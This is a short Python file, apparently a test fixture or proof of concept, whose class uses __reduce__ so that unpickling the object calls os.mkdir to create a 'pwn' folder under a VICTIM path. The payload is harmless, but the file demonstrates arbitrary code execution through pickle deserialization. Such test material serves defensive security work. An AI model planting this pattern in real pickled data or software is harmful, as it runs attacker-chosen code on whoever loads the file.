"""Returns an object that makes a folder when it is unpickled."""

import os


class Reduced:
    def __reduce__(self):
        return os.mkdir, (VICTIM + "/pwn",)


def f(x):
    return Reduced()
